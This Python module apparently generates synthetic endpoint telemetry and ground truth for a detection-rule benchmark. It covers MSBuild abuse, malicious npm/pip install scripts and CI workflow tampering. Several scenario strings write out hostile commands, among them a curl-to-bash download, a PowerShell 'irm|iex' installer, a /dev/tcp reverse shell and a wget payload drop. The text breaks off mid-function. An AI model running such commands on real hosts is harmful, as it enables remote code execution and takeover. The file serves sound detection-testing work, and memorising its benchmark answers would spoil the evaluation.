"""Injected attacks and near misses, one template per (rule, label, variant).

Each positive reproduces the seed rule's logic exactly; each near miss differs from a
positive in exactly one condition (named in `variant` and `description`). `seed_literal`
says whether the seed query *as written* would fire on the events (it differs from the
project's intent in a few documented places: KQL's 5-minute `bin()` join, Elastic's
loopback-only exclusion, the T1612 score counting a bash parent alone). `also_matches`
lists the other rules the same events legitimately trigger, so evaluation can score every
rule against the whole ground truth.

Ground truth (`ground_truth.ndjson`, one scenario per line, in time order):
  id            "gt-000001"...
  rule          one of RULES; label "positive" | "near_miss"; variant: the template's name
  seed_literal  would the seed query as written fire on these events
  also_matches  other rules these events are meant to trigger
  format        "sysmon" | "mde"; host (normalised short name); hosts (all involved)
  time, time_end, anchor_time   ISO-8601 UTC: first event, last event, the scenario's pivot
  processes     [{role, host, image, pid, command_line, start, guid | unique_id}]
  files         [{role, host, path, op, time}];  addresses [{role, ip, port, protocol,
                hostname, ip_type, time}]
  events        natural keys of every event, to find its line: sysmon {host (Computer),
                event_id, time (UtcTime), process_guid, target}; mde {host (DeviceName),
                table, time (Timestamp), process_unique_id, target}; target is the file
                path, remote IP, DNS name, or null
  notes         e.g. delay_s (write minus build start), msbuild_script_parent_new_term
  description   one sentence; for near misses, the one condition that fails
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from bench import gen_catalog as C
from bench.gen_core import (
    DELETE,
    DNS,
    END,
    FILE,
    MINUTE,
    NET,
    START,
    US,
    Endpoint,
    Host,
    Proc,
    iso_us,
    public_ip,
    sysmon_utc,
)
from bench.gen_world import Ctx

RULES = (
    "build_process_compromise",
    "msbuild_script_parent",
    "msbuild_network",
    "script_msbuild_network_chain",
    "dependency_compromise_shell_child",
    "dependency_compromise_network",
    "dependency_compromise_cicd_write",
    "docker_build_suspicious",
    "dockerfile_temp_write",
    "dockerd_nonregistry_network",
)

BUILD_WINDOW = 5 * MINUTE
ATTACK_DOMAINS = (
    "cdn-update.example",
    "files.pkg-mirror.example",
    "telemetry.npm-stats.example",
    "xmr-pool.example",
    "paste.drop.example",
    "bun-installer.example",
)


class Rec:
    """What one scenario did: processes, files and addresses worth naming in the truth."""

    def __init__(self, ctx: Ctx, other: Ctx | None) -> None:
        self.ctx, self.other = ctx, other
        self.procs: list[dict[str, Any]] = []
        self.files: list[dict[str, Any]] = []
        self.addrs: list[dict[str, Any]] = []
        self.notes: dict[str, Any] = {}

    def proc(self, role: str, p: Proc) -> Proc:
        d: dict[str, Any] = {
            "role": role,
            "host": p.host.short,
            "image": p.image,
            "pid": p.pid,
            "command_line": p.cmd,
            "start": iso_us(p.start),
        }
        if p.host.windows:
            d["guid"] = p.guid
        else:
            d["unique_id"] = p.uid
        self.procs.append(d)
        return p

    def file(self, role: str, p: Proc, t: int, path: str, op: str = "create") -> None:
        ctx = self.ctx if p.host.idx == self.ctx.host.idx else self.other
        assert ctx is not None
        if op == "delete":
            ctx.delete(p, t, path)
        else:
            ctx.write(p, t, path, op=op)
        self.files.append(
            {"role": role, "host": p.host.short, "path": path, "op": op, "time": iso_us(t)}
        )

    def net(self, role: str, p: Proc, t: int, ep: Endpoint) -> None:
        self.ctx.net(p, t, ep)
        self.addrs.append(
            {
                "role": role,
                "ip": ep.ip,
                "port": ep.port,
                "protocol": ep.proto,
                "hostname": ep.hostname,
                "ip_type": ep.ip_type,
                "time": iso_us(t),
            }
        )


Builder = Callable[[Rec, int], None]


@dataclass(frozen=True)
class Template:
    rule: str
    label: str  # "positive" | "near_miss"
    variant: str
    roles: tuple[str, ...]
    literal: bool
    description: str
    build: Builder
    also: tuple[str, ...] = ()
    other_roles: tuple[str, ...] = ()  # a second host is involved (cross-host near miss)


@dataclass
class Planned:
    """A scheduled scenario: template, host(s), start time; filled in when materialised."""

    sid: str
    tpl: Template
    host: Host
    t0: int
    other: Host | None = None
    n_events: int = 0
    notes: dict[str, Any] = field(default_factory=dict)
    truth: dict[str, Any] = field(default_factory=dict)


# ---- shared pieces ---------------------------------------------------------------------------


def _home(h: Host) -> str:
    return f"C:\\Users\\{h.users[0].name}"


def _repo(h: Host) -> tuple[str, str]:
    proj = C.WIN_PROJECTS[h.idx % len(C.WIN_PROJECTS)]
    return f"{_home(h)}\\source\\repos\\{proj}", proj


def _devenv(r: Rec, t: int) -> Proc:
    ctx = r.ctx
    repo, proj = _repo(ctx.host)
    dev = ctx.host.long_lived.get("devenv")
    if dev is None:
        dev = ctx.spawn(
            ctx.host.long_lived["explorer"],
            "devenv",
            f'"{C.WIN["devenv"].path}" "{repo}\\{proj}.sln"',
            t - 40 * MINUTE,
            cwd=f"{repo}\\",
        )
        ctx.host.long_lived["devenv"] = dev
    return dev


def _vs_msbuild(r: Rec, t: int, end: bool = True) -> Proc:
    """devenv -> MSBuild node, as a real Visual Studio build starts it (no script ancestry)."""
    ctx = r.ctx
    repo, proj = _repo(ctx.host)
    ms = ctx.spawn(
        _devenv(r, t),
        "msbuild",
        f'"{C.WIN["msbuild"].path}" /nologo /nodemode:1 /nodeReuse:true /low:false',
        t,
        cwd=f"{repo}\\",
    )
    ctx.write(
        ms,
        t + ctx.ms(400, 900),
        f"{repo}\\{proj}\\obj\\Debug\\net8.0\\{proj}.AssemblyInfoInputs.cache",
    )
    if end:
        ctx.end(ms, t + ctx.secs(20, 40))
    return r.proc("build_process", ms)


def _dropper(r: Rec, t: int, ctx: Ctx | None = None) -> Proc:
    """A foreign implant already running before the build (started from the user's session)."""
    ctx = ctx or r.ctx
    h = ctx.host
    img = C.WIN["dropper"].path.replace("{user}", h.users[0].name)
    p = ctx.spawn(h.long_lived["explorer"], "dropper", f'"{img}" /svc', t - 10 * MINUTE, image=img)
    return r.proc("writer", p)


def _script_parent(r: Rec, key: str, t: int) -> Proc:
    ctx = r.ctx
    ll = ctx.host.long_lived
    cmds = {
        "cmd": (
            "wmiprvse",
            "cmd.exe /c C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Windows\\Tasks\\pshell.xml",
        ),
        "powershell": (
            "explorer",
            '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -ep bypass -c "& $env:windir\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe $env:TEMP\\update.csproj"',
        ),
        "pwsh": (
            "explorer",
            f'"{C.WIN["pwsh"].path}" -NoProfile -WindowStyle Hidden -File C:\\Users\\Public\\build.ps1',
        ),
        "powershell_ise": (
            "explorer",
            '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell_ISE.exe" C:\\Users\\Public\\tools.ps1',
        ),
        "cscript": ("explorer", "cscript.exe //nologo //E:jscript C:\\Users\\Public\\inv.js"),
        "wscript": (
            "outlook",
            '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\Public\\Downloads\\invoice.vbs"',
        ),
        "mshta": (
            "outlook",
            '"C:\\Windows\\System32\\mshta.exe" "C:\\Users\\Public\\Downloads\\statement.hta"',
        ),
    }
    parent_key, cmd = cmds[key]
    parent = ll.get(parent_key) or ll["explorer"]
    return r.proc("script_parent", ctx.spawn(parent, key, cmd, t, integrity="Medium"))


def _fw_msbuild(r: Rec, parent: Proc, t: int, key: str = "msbuild_fw") -> Proc:
    ctx = r.ctx
    img = C.WIN[key].path.replace("{user}", ctx.host.users[0].name)
    ms = ctx.spawn(parent, key, f"{img} C:\\Windows\\Tasks\\pshell.xml", t, image=img)
    return r.proc("msbuild", ms)


def _c2(r: Rec, name: str | None = None) -> Endpoint:
    ip = public_ip(r.ctx.rng)
    return Endpoint(ip, 443, "tcp", name or "")


# ==== build_process_compromise =================================================================


def bpc_foreign_writer(
    r: Rec,
    t: int,
    delay: int | None = None,
    ext: str = ".cs",
    other: bool = False,
    editor: bool = False,
) -> None:
    ctx = r.ctx
    repo, proj = _repo(ctx.host)
    writer_ctx = r.other if other and r.other else ctx
    _vs_msbuild(r, t)
    writer = r.proc("writer", _devenv(r, t)) if editor else _dropper(r, t, writer_ctx)
    d = delay if delay is not None else ctx.secs(20, 280)
    wrepo, wproj = _repo(writer_ctx.host)
    target = f"{wrepo}\\{wproj}\\Program{ext}" if ext != ".cpp" else f"{wrepo}\\Native\\main.cpp"
    if ext == ".csproj":
        target = f"{wrepo}\\{wproj}\\{wproj}.csproj"
    r.file("code_file", writer, t + d, target, op="modify")
    r.notes["delay_s"] = d / US


def bpc_inline_task(r: Rec, t: int) -> None:
    """The Mordor shape: cmd -> MSBuild inline task writes a generated .cs 2-3 s after start."""
    ctx = r.ctx
    ms = _fw_msbuild(r, _script_parent(r, "cmd", t - ctx.ms(300, 800)), t)
    r.procs[-1]["role"] = "build_process"
    tmp = f"{_home(ctx.host)}\\AppData\\Local\\Temp\\{ctx.rng.getrandbits(32):08x}"
    name = tmp.rsplit("\\", 1)[1]
    r.file("code_file", ms, t + ctx.ms(2000, 3000), f"{tmp}\\{name}.0.cs")
    csc = ctx.spawn(
        ms,
        "csc",
        f'"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"{tmp}\\{name}.cmdline"',
        t + ctx.ms(3100, 3500),
        image="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
    )
    ctx.write(csc, t + ctx.ms(3600, 4200), f"{tmp}\\{name}.dll")
    ctx.end(csc, t + ctx.ms(4300, 4800))
    ctx.end(ms, t + ctx.secs(8, 15))


def bpc_dotnet_cpp(r: Rec, t: int) -> None:
    ctx = r.ctx
    repo, _ = _repo(ctx.host)
    term = ctx.host.long_lived["explorer"]
    sh = ctx.spawn(term, "pwsh", f'"{C.WIN["pwsh"].path}" -NoLogo', t - 20 * US, cwd=f"{repo}\\")
    d = r.proc(
        "build_process",
        ctx.spawn(sh, "dotnet", '"C:\\Program Files\\dotnet\\dotnet.exe" build --no-restore', t),
    )
    ctx.end(d, t + ctx.secs(30, 60))
    writer = r.proc(
        "writer",
        ctx.spawn(
            ctx.host.long_lived["explorer"],
            "powershell",
            '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w hidden -nop -c "iex (gc $env:TEMP\\p.txt -Raw)"',
            t - 2 * MINUTE,
        ),
    )
    r.file("code_file", writer, t + ctx.secs(60, 200), f"{repo}\\Native\\hook.cpp", op="modify")


def bpc_vbcs(r: Rec, t: int) -> None:
    """VBCSCompiler is a build process too: the window runs from its own start."""
    ctx = r.ctx
    repo, proj = _repo(ctx.host)
    ms = _vs_msbuild(r, t - 2 * US)
    r.proc(
        "build_process",
        ctx.spawn(
            ms,
            "vbcscompiler",
            f'"{C.WIN["vbcscompiler"].path}" "-pipename:{ctx.rng.getrandbits(64):x}"',
            t,
        ),
    )
    writer = _dropper(r, t)
    r.file("code_file", writer, t + 290 * US, f"{repo}\\{proj}\\Services\\Auth.cs", op="modify")


def bpc_bin_straddle(r: Rec, t: int) -> None:
    # Build 10 s before a 5-minute boundary, write 15 s after it: the seed's bin() join
    # puts them in different bins and misses it; a sliding window catches it.
    edge = t - t % BUILD_WINDOW + BUILD_WINDOW
    bpc_foreign_writer(r, edge - 10 * US, delay=25 * US)


def _plan_bpc() -> list[Template]:
    R, L = "build_process_compromise", ("win_dev",)
    return [
        Template(
            R,
            "positive",
            "foreign_writer_cs",
            L,
            True,
            "devenv starts MSBuild; a non-allow-listed implant rewrites Program.cs 20-280 s later.",
            bpc_foreign_writer,
        ),
        Template(
            R,
            "positive",
            "msbuild_inline_task",
            L,
            True,
            "cmd.exe -> Framework MSBuild.exe runs an inline task that writes a generated .cs 2-3 s after start (Mordor shape).",
            bpc_inline_task,
            also=("msbuild_script_parent",),
        ),
        Template(
            R,
            "positive",
            "dotnet_build_cpp",
            L,
            True,
            "dotnet build starts; a hidden powershell rewrites a .cpp within the window.",
            bpc_dotnet_cpp,
        ),
        Template(
            R,
            "positive",
            "vbcscompiler_window",
            L,
            True,
            "VBCSCompiler.exe starts; an implant rewrites a .cs 290 s after (inside the 5-minute window).",
            bpc_vbcs,
        ),
        Template(
            R,
            "positive",
            "bin_straddle",
            L,
            False,
            "Build 10 s before a 5-minute boundary, .cs write 15 s after it: the seed's bin() join misses it, a sliding window does not.",
            bpc_bin_straddle,
        ),
        Template(
            R,
            "near_miss",
            "write_1s_before_build",
            L,
            False,
            "The implant writes the .cs 1 s before MSBuild starts (fails: write after build start).",
            lambda r, t: bpc_foreign_writer(r, t, delay=-US),
        ),
        Template(
            R,
            "near_miss",
            "write_5m1s_after_build",
            L,
            False,
            "The implant writes the .cs 5 min 1 s after MSBuild starts (fails: within 5 minutes).",
            lambda r, t: bpc_foreign_writer(r, t, delay=301 * US),
        ),
        Template(
            R,
            "near_miss",
            "allow_listed_editor",
            L,
            True,
            "devenv.exe (allow-listed editor) saves the .cs 60 s after the build starts (fails: writer not allow-listed). The seed's allow list is empty, so as written it fires.",
            lambda r, t: bpc_foreign_writer(r, t, delay=60 * US, editor=True),
        ),
        Template(
            R,
            "near_miss",
            "other_host_write",
            L,
            False,
            "MSBuild starts on one host; an implant on another host writes a .cs 60 s later (fails: same host).",
            lambda r, t: bpc_foreign_writer(r, t, delay=60 * US, other=True),
            other_roles=("win_dev", "win_workstation"),
        ),
        Template(
            R,
            "near_miss",
            "non_code_extension",
            L,
            False,
            "The implant rewrites the .csproj 60 s after the build starts (fails: .cs/.cpp extension).",
            lambda r, t: bpc_foreign_writer(r, t, delay=60 * US, ext=".csproj"),
        ),
    ]


# ==== msbuild_script_parent ======================================================================


def msp_parent(key: str) -> Builder:
    def build(r: Rec, t: int) -> None:
        ctx = r.ctx
        parent = _script_parent(r, key, t - ctx.ms(500, 3000))
        ms = _fw_msbuild(r, parent, t)
        ctx.write(
            ms,
            t + ctx.secs(1, 3),
            f"{_home(ctx.host)}\\AppData\\Local\\Temp\\{ctx.rng.getrandbits(32):08x}.tmp",
        )
        ctx.end(ms, t + ctx.secs(5, 20))
        ctx.end(parent, t + ctx.secs(21, 30))

    return build


def msp_renamed(r: Rec, t: int) -> None:
    ctx = r.ctx
    parent = _script_parent(r, "cmd", t - ctx.ms(500, 1500))
    ms = _fw_msbuild(r, parent, t, key="msbuild_renamed")
    ctx.end(ms, t + ctx.secs(5, 20))


def msp_ancestor(r: Rec, t: int) -> None:
    ctx = r.ctx
    sp = _script_parent(r, "mshta", t - ctx.secs(3, 8))
    img = C.WIN["runner"].path.replace("{user}", ctx.host.users[0].name)
    mid = r.proc("intermediate", ctx.spawn(sp, "runner", f'"{img}"', t - ctx.secs(1, 2), image=img))
    ms = _fw_msbuild(r, mid, t)
    ctx.end(ms, t + ctx.secs(5, 20))


def msp_devenv(r: Rec, t: int) -> None:
    _vs_msbuild(r, t)
    r.procs[-1]["role"] = "msbuild"


def msp_not_msbuild(r: Rec, t: int) -> None:
    ctx = r.ctx
    parent = _script_parent(r, "cmd", t - ctx.ms(500, 1500))
    csc = ctx.spawn(
        parent,
        "csc",
        '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /out:C:\\Users\\Public\\a.exe C:\\Users\\Public\\a.cs',
        t,
        image="C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
    )
    r.proc("child", csc)
    ctx.end(csc, t + ctx.secs(2, 4))


def _plan_msp() -> list[Template]:
    R, L = "msbuild_script_parent", ("win_dev", "win_workstation")
    out = [
        Template(
            R,
            "positive",
            f"parent_{k}",
            L,
            True,
            f"{k} starts MSBuild.exe directly.",
            msp_parent(k),
        )
        for k in ("cmd", "powershell", "pwsh", "powershell_ise", "cscript", "wscript", "mshta")
    ]
    out += [
        Template(
            R,
            "positive",
            "renamed_msbuild",
            L,
            True,
            "cmd.exe starts a renamed MSBuild (tmpbuild.exe, OriginalFileName MSBuild.exe).",
            msp_renamed,
        ),
        Template(
            R,
            "positive",
            "script_ancestor_depth2",
            L,
            False,
            "mshta -> runner.exe -> MSBuild: a script host two levels up (graph-native ancestry; the seed checks the direct parent only).",
            msp_ancestor,
        ),
        Template(
            R,
            "near_miss",
            "parent_devenv",
            ("win_dev",),
            False,
            "devenv.exe starts MSBuild (fails: script parent).",
            msp_devenv,
        ),
        Template(
            R,
            "near_miss",
            "script_starts_csc",
            L,
            False,
            "cmd.exe starts csc.exe, not MSBuild (fails: process is MSBuild).",
            msp_not_msbuild,
        ),
    ]
    return out


# ==== msbuild_network / chain =====================================================================


def _msbuild_connect(r: Rec, ms: Proc, t: int, ep: Endpoint, by_child: bool = False) -> None:
    ctx = r.ctx
    actor = ms
    if by_child:
        actor = r.proc(
            "child",
            ctx.spawn(
                ms,
                "powershell",
                "powershell.exe -noP -sta -w 1 -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                t - ctx.ms(200, 600),
            ),
        )
    if ep.hostname:
        ctx.dns(actor, t - ctx.ms(20, 60), ep.hostname, ep.ip)
    r.net("remote", actor, t, ep)
    ctx.end(ms, t + ctx.secs(3, 10))


def mn_devenv(kind: str) -> Builder:
    def build(r: Rec, t: int) -> None:
        ms = _vs_msbuild(r, t, end=False)
        r.procs[-1]["role"] = "msbuild"
        ep = {
            "public": _c2(r, r.ctx.rng.choice(ATTACK_DOMAINS)),
            "loopback": Endpoint("127.0.0.1", 8080, "tcp", ""),
            "private": Endpoint(C.resolve(C.ARTIFACTS_INTERNAL), 443, "tcp", C.ARTIFACTS_INTERNAL),
            "child": _c2(r),
        }[kind]
        _msbuild_connect(r, ms, t + r.ctx.secs(2, 20), ep, by_child=(kind == "child"))

    return build


def mn_build_server(r: Rec, t: int) -> None:
    ctx = r.ctx
    ll = ctx.host.long_lived
    w = ctx.spawn(
        ll["agent_listener"],
        "agent_worker",
        '"C:\\agent\\bin\\Agent.Worker.exe" spawnclient 3412 3420',
        t - 30 * US,
        cwd="C:\\agent\\bin\\",
    )
    ms = r.proc(
        "msbuild",
        ctx.spawn(
            w,
            "msbuild",
            f'"{C.WIN["msbuild"].path}" C:\\agent\\_work\\3\\s\\App.sln /m /p:Configuration=Release',
            t,
        ),
    )
    ep = Endpoint(public_ip(ctx.rng), 8443, "tcp", "")
    _msbuild_connect(r, ms, t + ctx.secs(5, 40), ep)
    ctx.end(w, t + ctx.secs(60, 90))


def chain(kind: str, parent_key: str = "powershell", depth2: bool = False) -> Builder:
    def build(r: Rec, t: int) -> None:
        ctx = r.ctx
        sp = _script_parent(r, parent_key, t - ctx.secs(2, 6))
        if depth2:
            sp = r.proc(
                "intermediate",
                ctx.spawn(
                    sp,
                    "cmd",
                    "cmd.exe /c C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\x.xml",
                    t - ctx.secs(1, 2),
                ),
            )
        ms = _fw_msbuild(r, sp, t)
        ep = {
            "public": _c2(r, ctx.rng.choice(ATTACK_DOMAINS)),
            "loopback": Endpoint("127.0.0.1", 4444, "tcp", ""),
            "child": _c2(r),
        }[kind]
        _msbuild_connect(r, ms, t + ctx.secs(2, 15), ep, by_child=(kind == "child"))

    return build


def _plan_network() -> list[Template]:
    R, L = "msbuild_network", ("win_dev",)
    C2 = "script_msbuild_network_chain"
    MSP = "msbuild_script_parent"
    return [
        Template(
            R,
            "positive",
            "devenv_msbuild_public",
            L,
            True,
            "MSBuild started by devenv connects to a public address on 443.",
            mn_devenv("public"),
        ),
        Template(
            R,
            "positive",
            "build_agent_msbuild_public_ip",
            ("win_build",),
            True,
            "MSBuild started by the build agent connects to a bare public IP on 8443.",
            mn_build_server,
        ),
        Template(
            R,
            "near_miss",
            "loopback",
            L,
            False,
            "MSBuild connects to 127.0.0.1 (fails: not loopback).",
            mn_devenv("loopback"),
        ),
        Template(
            R,
            "near_miss",
            "private_address",
            L,
            True,
            "MSBuild connects to an RFC 1918 artifact server (fails the project's public-address condition; Elastic's query excludes only loopback, so as written it fires).",
            mn_devenv("private"),
        ),
        Template(
            R,
            "near_miss",
            "child_connects",
            L,
            False,
            "MSBuild's child powershell connects out, MSBuild itself does not (fails: same process; Mordor shape).",
            mn_devenv("child"),
        ),
        Template(
            C2,
            "positive",
            "powershell_msbuild_public",
            L,
            True,
            "powershell -> MSBuild -> public address.",
            chain("public"),
            also=(MSP, R),
        ),
        Template(
            C2,
            "positive",
            "wscript_cmd_msbuild_public",
            L,
            True,
            "wscript -> cmd -> MSBuild -> public address (script two levels up).",
            chain("public", "wscript", depth2=True),
            also=(MSP, R),
        ),
        Template(
            C2,
            "near_miss",
            "child_connects",
            L,
            False,
            "powershell -> MSBuild -> child powershell connects out; MSBuild does not (fails: MSBuild connects).",
            chain("child"),
            also=(MSP,),
        ),
        Template(
            C2,
            "near_miss",
            "no_script_ancestor",
            L,
            False,
            "devenv -> MSBuild -> public address (fails: script ancestor).",
            mn_devenv("public"),
            also=(R,),
        ),
        Template(
            C2,
            "near_miss",
            "loopback",
            L,
            False,
            "powershell -> MSBuild -> 127.0.0.1 (fails: outbound to a non-loopback address).",
            chain("loopback"),
            also=(MSP,),
        ),
    ]


# ==== dependency compromise ==========================================================================


def _lhome(h: Host) -> str:
    return f"/home/{h.users[0].name}"


def _linux_proj(h: Host) -> str:
    return f"{_lhome(h)}/src/{C.LINUX_PROJECTS[h.idx % len(C.LINUX_PROJECTS)]}"


def _user_bash(r: Rec, t: int) -> Proc:
    ctx = r.ctx
    ll = ctx.host.long_lived
    priv = ctx.spawn(ll["sshd"], "sshd", f"sshd: {ctx.host.users[0].name} [priv]", t - 3 * MINUTE)
    return ctx.spawn(
        priv,
        "bash",
        "-bash",
        t - 3 * MINUTE + US,
        user=ctx.host.users[0],
        cwd=_linux_proj(ctx.host),
    )


def _npm(r: Rec, t: int, args: str = "install") -> Proc:
    ctx = r.ctx
    if ctx.win:
        repo, _ = _repo(ctx.host)
        sh = ctx.spawn(
            ctx.host.long_lived["explorer"],
            "cmd",
            '"C:\\Windows\\system32\\cmd.exe" ',
            t - 2 * MINUTE,
            cwd=f"{repo}\\web\\",
        )
        p = ctx.spawn(
            sh,
            "node",
            f'"C:\\Program Files\\nodejs\\\\node.exe"  "C:\\Program Files\\nodejs\\\\node_modules\\npm\\bin\\npm-cli.js" {args}',
            t,
        )
    else:
        p = ctx.spawn(_user_bash(r, t), "node", f"npm {args}", t)
    return r.proc("package_manager", p)


def _pip(r: Rec, t: int) -> Proc:
    ctx = r.ctx
    d = _linux_proj(ctx.host)
    pkg = ctx.rng.choice(C.PY_PACKAGES)
    return r.proc(
        "package_manager",
        ctx.spawn(
            _user_bash(r, t),
            "python3",
            f"python3 -m pip install {pkg}==2.1.0",
            t,
            image=f"{d}/.venv/bin/python3",
        ),
    )


def dsc_windows(r: Rec, t: int) -> None:
    ctx = r.ctx
    node = _npm(r, t, "install @asyncapi-lite/cli@4.1.3")
    c1 = r.proc(
        "shell",
        ctx.spawn(
            node,
            "cmd",
            "C:\\WINDOWS\\system32\\cmd.exe /d /s /c node setup_bun.js",
            t + ctx.secs(5, 20),
        ),
    )
    c2 = r.proc(
        "shell",
        ctx.spawn(
            node,
            "cmd",
            'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "powershell -c "irm bun-installer.example/install.ps1|iex""',
            c1.start + ctx.secs(1, 3),
        ),
    )
    ps = r.proc(
        "payload",
        ctx.spawn(
            c2,
            "powershell",
            'powershell  -c "irm bun-installer.example/install.ps1|iex"',
            c2.start + ctx.ms(50, 200),
        ),
    )
    ep = Endpoint(C.resolve("bun-installer.example"), 443, "tcp", "bun-installer.example")
    ctx.dns(ps, ps.start + ctx.ms(300, 600), ep.hostname, ep.ip)
    r.net("download", ps, ps.start + ctx.ms(700, 1200), ep)
    for p in (ps, c2, c1):
        ctx.end(p, ps.start + ctx.secs(3, 6))
    ctx.end(node, ps.start + ctx.secs(7, 9))


def dsc_linux_npm(r: Rec, t: int) -> None:
    ctx = r.ctx
    node = _npm(r, t, f"install {ctx.rng.choice(C.NPM_PACKAGES)}@3.4.1")
    ip = public_ip(ctx.rng)
    sh = r.proc(
        "shell",
        ctx.spawn(
            node,
            "sh",
            f'sh -c "curl http://{ip}/p.sh | bash"',
            t + ctx.secs(4, 15),
            image="/usr/bin/dash",
        ),
    )
    curl = r.proc(
        "download", ctx.spawn(sh, "curl", f"curl http://{ip}/p.sh", sh.start + ctx.ms(5, 20))
    )
    r.net("download", curl, curl.start + ctx.ms(20, 80), Endpoint(ip, 80, "tcp", ""))
    r.proc("payload", ctx.spawn(sh, "bash", "bash", sh.start + ctx.ms(6, 25)))


def dsc_linux_pip(r: Rec, t: int) -> None:
    ctx = r.ctx
    py = _pip(r, t)
    ip = public_ip(ctx.rng)
    sh = r.proc(
        "shell",
        ctx.spawn(
            py,
            "sh",
            f'/bin/sh -c "bash -i >& /dev/tcp/{ip}/443 0>&1"',
            t + ctx.secs(3, 10),
            image="/usr/bin/dash",
        ),
    )
    b = r.proc("payload", ctx.spawn(sh, "bash", "bash -i", sh.start + ctx.ms(2, 10)))
    r.net("reverse_shell", b, b.start + ctx.ms(5, 30), Endpoint(ip, 443, "tcp", ""))


def dsc_linux_depth2(r: Rec, t: int) -> None:
    """npm install -> sh (a clean build script) -> wget http://...: the downloader's direct
    parent is a shell, so only ancestry at depth 2 ties it to the package manager."""
    ctx = r.ctx
    node = _npm(r, t)
    mid = r.proc(
        "intermediate",
        ctx.spawn(
            node,
            "sh",
            "sh -c ./scripts/build.sh",
            t + ctx.secs(3, 8),
            image="/usr/bin/dash",
            cwd=f"{_linux_proj(ctx.host)}/node_modules/{C.NPM_PACKAGES[4]}",
        ),
    )
    ip = public_ip(ctx.rng)
    w = r.proc(
        "download",
        ctx.spawn(
            mid, "wget", f"wget http://{ip}/x.sh -O /tmp/.x.sh", mid.start + ctx.ms(100, 400)
        ),
    )
    r.net("download", w, w.start + ctx.ms(20, 80), Endpoint(ip, 80, "tcp", ""))


def dsc_node_child_only(r: Rec, t: int) -> None:
    ctx = r.ctx
    node = _npm(r, t)
    kid = r.proc(
        "child",
        ctx.spawn(
            node,
            "node",
            "node install.js",
            t + ctx.secs(3, 8),
            cwd=f"{_linux_proj(ctx.host)}/node_modules/{C.NPM_PACKAGES[1]}",
        ),
    )
    ctx.write(
        kid,
        kid.start + ctx.ms(200, 900),
        f"{_linux_proj(ctx.host)}/node_modules/{C.NPM_PACKAGES[1]}/bin/native.node",
    )


def dsc_shell_from_bash(r: Rec, t: int) -> None:
    ctx = r.ctx
    b = r.proc("parent", _user_bash(r, t))
    ip = public_ip(ctx.rng)
    sh = r.proc(
        "shell",
        ctx.spawn(b, "sh", f'sh -c "curl http://{ip}/p.sh | bash"', t, image="/usr/bin/dash"),
    )
    curl = ctx.spawn(sh, "curl", f"curl http://{ip}/p.sh", t + ctx.ms(5, 20))
    ctx.net(curl, curl.start + ctx.ms(20, 80), Endpoint(ip, 80, "tcp", ""))


def dsc_pip_python_child(r: Rec, t: int) -> None:
    ctx = r.ctx
    py = _pip(r, t)
    d = _linux_proj(ctx.host)
    r.proc(
        "child",
        ctx.spawn(
            py,
            "python3",
            f"{d}/.venv/bin/python3 {d}/.venv/lib/python3.11/site-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py build_wheel /tmp/tmpq8x1c2",
            t + ctx.secs(2, 6),
            image=f"{d}/.venv/bin/python3",
        ),
    )


def dn(kind: str) -> Builder:
    def build(r: Rec, t: int) -> None:
        ctx = r.ctx
        if kind in ("npm_raw_ip", "win_npm"):
            pm = _npm(r, t)
        elif kind == "curl":
            b = _user_bash(r, t)
            pm = r.proc(
                "client",
                ctx.spawn(
                    b,
                    "curl",
                    "curl -sO https://files.pkg-mirror.example/simple/yamlkit/yamlkit-2.1.0.tar.gz",
                    t,
                ),
            )
        else:
            pm = _pip(r, t)
        at = t + ctx.secs(1, 6)
        ep = {
            "pip_public": Endpoint(
                C.resolve("files.pkg-mirror.example"), 443, "tcp", "files.pkg-mirror.example"
            ),
            "npm_raw_ip": Endpoint(public_ip(ctx.rng), 8080, "tcp", ""),
            "win_npm": Endpoint(
                C.resolve("telemetry.npm-stats.example"), 443, "tcp", "telemetry.npm-stats.example"
            ),
            "allow_listed": Endpoint(C.resolve(C.PY_FILES), 443, "tcp", C.PY_FILES),
            "private": Endpoint(C.resolve(C.ARTIFACTS_INTERNAL), 443, "tcp", C.ARTIFACTS_INTERNAL),
            "curl": Endpoint(
                C.resolve("files.pkg-mirror.example"), 443, "tcp", "files.pkg-mirror.example"
            ),
        }[kind]
        if ctx.win:
            ctx.dns(pm, at - ctx.ms(10, 50), ep.hostname, ep.ip)
        r.net("remote", pm, at, ep)
        if ctx.win:
            ctx.end(pm, at + ctx.secs(2, 5))

    return build


def cicd(kind: str) -> Builder:
    def build(r: Rec, t: int) -> None:
        ctx = r.ctx
        if ctx.win:
            node = _npm(r, t)
            cmd = r.proc(
                "writer",
                ctx.spawn(
                    node,
                    "cmd",
                    'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "node bundle.js"',
                    t + ctx.secs(2, 6),
                ),
            )
            repo, _ = _repo(ctx.host)
            r.file(
                "ci_file", cmd, cmd.start + ctx.secs(1, 3), f"{repo}\\.github\\workflows\\ci.yml"
            )
            ctx.end(cmd, cmd.start + ctx.secs(4, 6))
            ctx.end(node, cmd.start + ctx.secs(7, 9))
            return
        d = _linux_proj(ctx.host)
        if kind == "workflow":
            node = _npm(r, t)
            r.file(
                "ci_file",
                node,
                t + ctx.secs(3, 20),
                f"{d}/.github/workflows/shai-hulud-workflow.yml",
            )
        elif kind == "gitlab":
            py = _pip(r, t)
            r.file("ci_file", py, t + ctx.secs(3, 20), f"{d}/.gitlab-ci.yml", op="modify")
        elif kind == "jenkins":
